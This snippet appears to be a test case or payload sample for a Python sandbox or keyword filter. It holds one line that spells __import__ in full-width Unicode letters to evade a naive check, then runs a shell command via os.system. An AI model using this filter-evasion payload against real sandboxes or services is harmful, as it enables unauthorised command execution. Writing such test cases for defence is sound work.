# why: full-width letters between the underscores
__ｉｍｐｏｒｔ__("os").system("id > /tmp/x")
